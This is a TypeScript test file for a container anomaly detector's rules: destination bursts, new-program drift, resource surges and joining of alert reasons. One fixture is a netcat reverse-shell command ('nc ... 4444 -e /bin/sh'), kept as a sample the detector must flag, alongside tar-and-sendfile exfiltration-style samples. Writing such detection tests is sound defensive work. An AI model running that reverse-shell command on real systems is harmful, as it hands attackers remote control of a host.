/**
 * The destination-burst, new-program (drift) and resource-surge rules on hand-made window facts.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DRIFT_RULE, RISKY_RULE, burstRuleReason, driftRuleReason, joinReasons, surgeRuleReason } from '../../src/detect/rules.js';
import { programKey } from '../../src/detect/features.js';
import type { WindowFacts } from '../../src/detect/facts.js';

const ref = { host: 'h', capture: 'c', arch: 'x86_64', containerId: 'x', name: 'n', image: 'i', startNs: 0n, endNs: 10n };
const win = (over: Partial<WindowFacts>): WindowFacts => ({
  ref, w: 0n, startNs: 0n, endNs: 5_000_000_000n, seconds: 5, syscalls: new Map(), execs: [], forks: 0, exits: 0,
  opens: new Map(), connects: [], accepts: [], resources: null, lifecycle: false, ...over,
});

test('burst rule: 10 new destinations flag, 9 do not, known ones never count', () => {
  const connects = (n: number) => Array.from({ length: n }, (_, i) => ({ peer: '10.0.0.2', port: 8000 + i, n: 1, failed: 1 }));
  const seenPeers = new Set(['10.0.0.2']);
  const seenPorts = new Set(['80']);
  assert.equal(burstRuleReason(win({ connects: connects(9) }), seenPeers, seenPorts, 10), null);
  const r = burstRuleReason(win({ connects: [...connects(10), { peer: '10.0.0.2', port: 80, n: 5, failed: 0 }] }), seenPeers, seenPorts, 10);
  assert.match(r!.text, /^rule: connected to 10 destinations never seen in baseline \(1 host\) — 10\.0\.0\.2: 10 ports \(8000, 8001/);
});

test('drift rule: busybox applets are told apart by argv[0]; a known program does not fire', () => {
  const nc = { filename: '/proc/self/exe', n: 1, argv: ['nc', '10.0.0.5', '4444', '-e', '/bin/sh'], truncated: false };
  const wget = { filename: '/proc/self/exe', n: 1, argv: ['wget', '-q', 'http://web/'], truncated: false };
  assert.equal(programKey(nc), '/proc/self/exe [nc]');
  assert.equal(programKey({ filename: '/bin/sh', argv: ['sh', '-c', 'x'] }), '/bin/sh');
  const seen = new Set([programKey(wget)]);
  assert.equal(driftRuleReason(win({ execs: [wget] }), seen), null);
  assert.match(driftRuleReason(win({ execs: [wget, nc] }), seen)!.text, /^rule: program never run in baseline: \/proc\/self\/exe \[nc\] with argv `nc 10\.0\.0\.5 4444 -e \/bin\/sh`/);
});

test('surge rule: CPU 3× the baseline max and 0.1 core more; forks; nothing without a baseline', () => {
  const res = (cpu: number) => ({ samples: 5, cpuCores: cpu, memoryBytes: 1e6, pids: null, ioBytesPerS: 0, netRxBytesPerS: 0, netTxBytesPerS: 0 });
  const base = { cpuCores: 0.04, pids: Infinity, forks: 37 };
  assert.match(surgeRuleReason(win({ resources: res(0.19) }), base, 3, 5)!.text, /CPU 0\.19 cores vs baseline max 0\.04/);
  assert.equal(surgeRuleReason(win({ resources: res(0.1) }), base, 3, 5), null, 'below 3×');
  assert.match(surgeRuleReason(win({ forks: 157 }), base, 3, 5)!.text, /157 processes forked vs baseline max 37/);
  assert.equal(surgeRuleReason(win({ forks: 157, resources: res(1) }), null, 3, 5), null);
});

test('reasons: a fired new-program rule drops the forest reason restating the same programs, nothing else', () => {
  const rule = { feature: DRIFT_RULE, text: 'rule: program never run in baseline: /bin/tar with argv `tar -c /data`', contribution: 1 };
  const forest = [
    { feature: 'new_programs', text: 'new program /bin/tar started with argv `tar -c /data`', contribution: 0.4 },
    { feature: 'new_syscalls', text: 'sendfile called 7 times, never seen in baseline', contribution: 0.3 },
    { feature: 'new_peers', text: 'connected to new peer 10.0.0.66 (port 9000)', contribution: 0.2 },
  ];
  assert.deepEqual(joinReasons([rule], forest).map((r) => r.feature), [DRIFT_RULE, 'new_syscalls', 'new_peers']);
  // another rule restates nothing of the forest's: all reasons stay
  const risky = { feature: RISKY_RULE, text: 'rule: risky syscall never seen in baseline: ptrace called 1 time', contribution: 1 };
  assert.deepEqual(joinReasons([risky], forest).map((r) => r.feature), [RISKY_RULE, 'new_programs', 'new_syscalls', 'new_peers']);
  assert.deepEqual(joinReasons([], forest), forest);
});
